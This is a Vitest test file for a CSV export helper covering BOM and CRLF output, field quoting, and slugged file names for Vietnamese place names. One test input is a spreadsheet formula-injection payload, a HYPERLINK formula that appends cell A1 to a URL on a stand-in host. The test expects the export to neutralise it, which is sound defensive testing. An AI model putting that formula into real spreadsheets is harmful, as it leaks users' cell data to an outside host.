import { describe, expect, it } from 'vitest'
import { csvFileName, downloadFileName, toCsv } from './csv.ts'

describe('toCsv', () => {
  it('writes a BOM, a header row and CRLF lines', () => {
    expect(
      toCsv(
        ['code', 'name', 'rank'],
        [{ code: 'LONG_AN.THANH_HOA', name: 'Huyện Thạnh Hóa', rank: 5 }],
      ),
    ).toBe('\uFEFFcode,name,rank\r\nLONG_AN.THANH_HOA,Huyện Thạnh Hóa,5\r\n')
  })

  it.each([
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\rlf', '"cr\rlf"'],
    ['plain', 'plain'],
    [null, ''],
    [undefined, ''],
    [80.1, '80.1'],
    [true, 'true'],
    [-5.35, '-5.35'],
    ['=HYPERLINK("http://x?leak="&A1,"click")', `"'=HYPERLINK(""http://x?leak=""&A1,""click"")"`],
    ['@SUM(A1)', "'@SUM(A1)"],
  ])('quotes %j as %s', (value, expected) => {
    expect(toCsv(['v'], [{ v: value }])).toBe(`\uFEFFv\r\n${expected}\r\n`)
  })

  it('leaves missing keys empty and keeps column order', () => {
    expect(toCsv(['b', 'a'], [{ a: 1 }])).toBe('\uFEFFb,a\r\n,1\r\n')
  })

  it('writes only the header for no rows', () => {
    expect(toCsv(['a'], [])).toBe('\uFEFFa\r\n')
  })
})

describe('csvFileName', () => {
  it.each([
    [['rankings', 'LONG_AN', 'DISTRICT', 2023], 'rankings-long-an-district-2023.csv'],
    [
      ['tasks', 'AN_GIANG.LONG_XUYEN', 'COMMUNE', 2022],
      'tasks-an-giang-long-xuyen-commune-2022.csv',
    ],
    [['units', 'Đồng Tháp', null, undefined], 'units-dong-thap.csv'],
    [['Chỉ số CCHC', 2023], 'chi-so-cchc-2023.csv'],
    [[], 'export.csv'],
  ])('%j → %s', (parts, expected) => {
    expect(csvFileName(parts)).toBe(expected)
  })
})

describe('downloadFileName', () => {
  it('gives the same ASCII name with the format’s extension', () => {
    expect(downloadFileName(['rankings', 'TAY_NINH', 'COMMUNE', 'Phường', 2025], 'xlsx')).toBe(
      'rankings-tay-ninh-commune-phuong-2025.xlsx',
    )
    expect(downloadFileName([], 'xlsx')).toBe('export.xlsx')
  })
})
